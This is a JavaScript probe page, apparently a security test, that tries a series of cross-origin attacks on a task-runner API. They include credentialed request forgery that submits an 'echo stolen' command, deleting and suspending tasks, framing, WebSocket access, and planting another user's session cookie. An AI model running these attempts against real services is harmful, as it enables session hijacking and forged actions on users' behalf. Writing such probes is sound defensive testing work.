// Tries to act for whoever looks at this page on the page of the site, whose address is in
// ?page=, and on task ?task= there. What came of it is the text of #report, as JSON.
const asked = new URLSearchParams(location.search);
const page = asked.get("page");
const task = asked.get("task");
const others = asked.get("cookie"); // a session of somebody else
const api = `${page}/api/1.0`;

const tries = {
  cookies: async () => document.cookie,
  read: async () => (await fetch(`${api}/session`, { credentials: "include" })).text(),
  blind: async () => (await fetch(`${api}/session`, { credentials: "include", mode: "no-cors" })).text(),
  submit: async () =>
    (
      await fetch(`${api}/task`, {
        method: "POST",
        mode: "no-cors",
        credentials: "include",
        body: '{"command":{"cmd":"echo stolen"},"meta":{"name":"stolen"}}',
      })
    ).type,
  kill: async () => (await fetch(`${api}/task/${task}`, { method: "DELETE", credentials: "include" })).status,
  image: () =>
    new Promise((done) => {
      const image = new Image();
      image.onload = () => done("loaded");
      image.onerror = () => done("refused");
      image.src = `${api}/task/${task}/suspend`;
    }),
  script: () =>
    new Promise((done) => {
      const script = document.createElement("script");
      script.onload = () => done("loaded");
      script.onerror = () => done("refused");
      script.src = `${page}/scheme.js`;
      document.body.append(script);
    }),
  frame: () =>
    new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => {
        try {
          done(`framed: ${frame.contentDocument?.body.textContent ?? "not to be read"}`);
        } catch (err) {
          done(err.name);
        }
      };
      frame.src = page;
      document.body.append(frame);
    }),
  opener: async () => String(window.opener),
  socket: () =>
    new Promise((done) => {
      const socket = new WebSocket(`${api.replace("http", "ws")}/event`);
      socket.onopen = () => done("open");
      socket.onerror = () => done("refused");
    }),
  ticket: async () =>
    (await fetch(`${api}/task/${task}/web`, { method: "POST", credentials: "include" })).text(),
  toss: async () => {
    const domain = location.hostname.split(".").slice(-2).join(".");
    for (const place of ["path=/", "path=/api", `path=/; domain=${domain}`, `path=/api; domain=${domain}`]) {
      // biome-ignore lint/suspicious/noDocumentCookie: it is what is tried
      document.cookie = `god_session=${others}; ${place}`;
    }
    return "done";
  },
};

const report = {};
for (const [name, attempt] of Object.entries(tries)) {
  if (name === "toss" && !others) continue;
  report[name] = await attempt().catch((err) => err.name);
}
document.getElementById("report").textContent = JSON.stringify(report);
